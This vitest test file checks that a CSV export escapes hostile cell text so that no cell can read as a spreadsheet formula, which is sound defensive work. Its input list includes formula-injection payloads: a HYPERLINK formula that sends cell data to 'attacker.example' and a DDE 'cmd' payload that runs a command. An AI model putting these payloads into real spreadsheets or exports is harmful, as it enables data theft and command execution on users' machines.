import { describe, expect, test } from 'vitest';
import { csvCell, csvLine, parseCsv, textOfCell } from '../../src/audit/evidence/csv.ts';

/** Texts that an agent, or whoever writes what it reads, may choose. */
const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r\n=1',
  '\n\n@x',
  '   =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0001=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  "'=1",
  "''",
  '\t',
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '","=1',
  'a\r\n=1+1',
  'a,"b"\n"=1"\r\n,c',
  '\\u0000=1',
  '\\0',
  '"',
  '""',
  '',
  ' ',
  'NULL',
  '\\N',
  'x'.repeat(5_000_000),
  `=${'"'.repeat(1_000_000)}`,
];

describe('a CSV of texts that others chose', () => {
  test.each(HOSTILE.map((text) => [text.length > 40 ? `${text.slice(0, 40)}…` : text, text]))(
    '%j',
    (_, text) => {
      const line = csvLine(['before', text, 'after'], [true, true, true]);
      const records = parseCsv(line);
      expect(records).toHaveLength(1);
      const [[before, shown, after] = []] = records;
      expect([before, after]).toEqual(['before', 'after']);
      // Whatever a spreadsheet skips before it looks whether it is a formula.
      expect(/^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(shown ?? '')).toBe(false);
      expect(textOfCell(shown ?? '')).toBe(text);
    },
  );

  test('leaves numbers and times that the database made alone', () => {
    expect(csvCell('-1', false)).toBe('-1');
    expect(csvCell('-1', true)).toBe("'-1");
    expect(csvCell(null, true)).toBe('');
    expect(csvCell('', true)).toBe('""');
  });
});
